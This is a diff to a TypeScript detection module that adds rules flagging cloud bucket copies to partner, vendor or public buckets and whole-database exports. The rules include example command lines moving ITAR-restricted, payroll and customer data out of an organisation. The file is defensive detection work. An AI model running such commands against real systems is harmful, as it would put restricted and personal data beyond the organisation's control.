@@ -4,12 +4,12 @@
 // ATT&CK T1048, T1048.003, T1041, T1567.002, T1071.004; curl(1) (-T, -F @, --data-binary @),
 // wget(1) (--post-file), nc(1), GTFOBins' "File upload" function.
 import type { Action, PathClass } from "../model.js";
-import { classifyPath, DOTENV, hostOf, isExternalHost } from "../paths.js";
+import { classifyPath, DOTENV, hostOf, isExternalHost, productionNamed } from "../paths.js";
 import type { Invocation } from "../shell-command.js";
 import { looksLikeSql, readsRows } from "../sql.js";
 import { credentialPrinted } from "./credential-access.js";
 import { curlOptions } from "../http-call.js";
-import { optionValues, previous, shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
+import { commandWords, optionValues, previous, shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
 
 const TACTIC = "Exfiltration (TA0010)";
 
@@ -638,4 +638,71 @@ const warehouseExport: CommandRule = {
   },
 };
 
-export const exfiltrationRules: readonly CommandRule[] = [warehouseExport, httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
+/** A bucket URL: gs://, s3://, an Azure blob container's https address. */
+const BUCKET_URL = /^(?:gs|s3):\/\/[\w.-]+|^https:\/\/[\w-]+\.blob\.core\.windows\.net\/[\w.-]+/i;
+/** A bucket whose name says it is another party's: a partner's, a vendor's, a contractor's, a client's drop. */
+const OTHERS_BUCKET = /^(?:gs|s3):\/\/(?:[^/]*[-_.])?(?:partners?|ptnr|external|ext|vendors?|suppliers?|contractors?|outside|thirdparty|third-party|3p|clients?|personal)(?:[-_./]|$)|^https:\/\/[\w-]*(?:partner|vendor|external|contractor|supplier)[\w-]*\.blob\.core\.windows\.net\//i;
+/** A bucket whose name says anyone reads it. */
+const PUBLIC_BUCKET = /^(?:gs|s3):\/\/(?:[^/]*[-_.])?(?:public|pub|open|www|cdn|downloads?)(?:[-_./]|$)/i;
+/** A source whose name says what it holds is restricted: export-controlled, confidential, people's, production's, backups. */
+const RESTRICTED_SOURCE = /(?:^|[-_./])(?:restricted|confidential|secret|itar|ear|export[-_]?control\w*|pii|phi|customers?|patients?|members?|payroll|hr|finance|prod|production|backups?|legal|privileged)(?:[-_./]|$)/i;
+
+/**
+ * A bucket copied to a bucket its name says is another party's (gcloud storage cp -r gs://x-restricted/
+ * gs://vendor-intake/, aws s3 sync s3://prod-exports/ s3://partner-drop/), or what is restricted
+ * copied to a public one: the objects leave the organisation's access control and cannot be called
+ * back (T1537, transfer data to a cloud account).
+ */
+const bucketToOthers: CommandRule = {
+  id: "exfiltration.bucket-to-others",
+  tactic: TACTIC,
+  technique: "T1537",
+  names: ["gcloud", "gsutil", "aws", "azcopy", "rclone"],
+  match(inv) {
+    const w = inv.args.filter((x) => !x.startsWith("-"));
+    const copies = (inv.name === "gcloud" && w[0] === "storage" && /^(?:cp|rsync|mv)$/.test(w[1] ?? "")) || (inv.name === "gsutil" && /^(?:cp|rsync|mv)$/.test(w[0] ?? "")) || (inv.name === "aws" && w[0] === "s3" && /^(?:cp|sync|mv)$/.test(w[1] ?? "")) || (inv.name === "azcopy" && /^(?:copy|cp|sync)$/.test(w[0] ?? "")) || (inv.name === "rclone" && /^(?:copy|sync|move)$/.test(w[0] ?? ""));
+    if (!copies) return undefined;
+    const urls = w.filter((x) => BUCKET_URL.test(x));
+    if (urls.length < 2) return undefined;
+    const dest = urls[urls.length - 1]!;
+    const source = urls[0]!;
+    const others = OTHERS_BUCKET.test(dest);
+    const restricted = RESTRICTED_SOURCE.test(source);
+    if (!others && !(PUBLIC_BUCKET.test(dest) && restricted)) return undefined;
+    const many = inv.args.some((x) => /^(?:-r|-R|--recursive)$/.test(x)) || /^(?:rsync|sync)$/.test(w[1] ?? w[0] ?? "") || source.endsWith("/");
+    return { action: { capability: "exfiltrate", target: { name: shown(dest), external: true, public: !others, personal: restricted }, reversibility: "irreversible", scope: many ? "account" : "one" }, reason: `copies ${shown(source)}${restricted ? " (restricted by its name)" : ""} to ${shown(dest)}, ${others ? "another party's" : "a public"} bucket by its name: the objects are out of the organisation's hands (T1537)` };
+  },
+  examples: {
+    match: [`gcloud storage cp -r gs://skyrill-itar-restricted/sky-bus-design/ gs://orbitparts-vendor-intake/skyrill/`, `aws s3 sync s3://acme-prod-customer-exports/ s3://partner-analytics-drop/acme/`, `gsutil cp gs://acme-payroll/2026-10.csv gs://acme-public-site/tmp.csv`],
+    noMatch: [`gsutil cp gs://acme-build-artifacts/app.tgz gs://acme-release-mirror/`, `gsutil cp gs://acme-builds/sdk-1.2.tgz gs://acme-public-downloads/`, `aws s3 cp s3://acme-prod-exports/report.csv ./`, `gcloud storage cp ./dist/app.js gs://acme-vendor-assets/`],
+  },
+};
+
+/**
+ * A whole database exported to storage by its cloud's CLI (az sql db export, gcloud sql export,
+ * aws rds start-export-task): every row leaves the database's access control for whoever reads
+ * that storage. From production it is held; to a bucket named for another party it is sent away (T1537).
+ */
+const databaseExported: CommandRule = {
+  id: "exfiltration.database-exported",
+  tactic: TACTIC,
+  technique: "T1537",
+  names: ["az", "gcloud", "aws"],
+  match(inv) {
+    const w = commandWords(inv.name, inv.args);
+    const exported = (inv.name === "az" && w[0] === "sql" && w[1] === "db" && w[2] === "export") || (inv.name === "gcloud" && w[0] === "sql" && w[1] === "export") || (inv.name === "aws" && w[0] === "rds" && w[1] === "start-export-task");
+    if (!exported) return undefined;
+    const dest = optionValues(inv.args, ["--storage-uri", "--s3-bucket-name"])[0] ?? w.find((x) => BUCKET_URL.test(x)) ?? "storage";
+    const source = [...optionValues(inv.args, ["-s", "--server", "-n", "--name", "--resource-group", "-g", "--source-arn", "--database", "-d"]), ...w.slice(2)].join(" ");
+    const others = OTHERS_BUCKET.test(dest) || PUBLIC_BUCKET.test(dest);
+    const production = productionNamed(source);
+    if (!others && !production) return undefined;
+    return { action: { capability: others ? "exfiltrate" : "communicate", target: { name: shown(dest), external: others, personal: others, production }, reversibility: others ? "irreversible" : "recoverable", scope: "account" }, reason: `exports a whole ${production ? "production " : ""}database to ${shown(dest)}${others ? ", storage its name says is another party's or public" : ""}: every row is readable by whoever reads that storage (T1537)` };
+  },
+  examples: {
+    match: [`az sql db export -g rg-data-prod -s ap-sql-prod -n trustacct --admin-user a --admin-password "$PW" --storage-key-type SharedAccessKey --storage-key "$SAS" --storage-uri https://lexbkpsvc01.blob.core.windows.net/x/trust.bacpac`, `gcloud sql export sql orders-prod gs://partner-drop/orders.sql.gz --database=orders`],
+    noMatch: [`az sql db export -g rg-dev -s app-sql-dev -n app --storage-uri https://devbackups.blob.core.windows.net/x/app.bacpac --storage-key-type SharedAccessKey --storage-key "$SAS" --admin-user a --admin-password b`, `gcloud sql export sql orders-staging gs://acme-staging-dumps/o.sql`],
+  },
+};
+
+export const exfiltrationRules: readonly CommandRule[] = [databaseExported, bucketToOthers, warehouseExport, httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
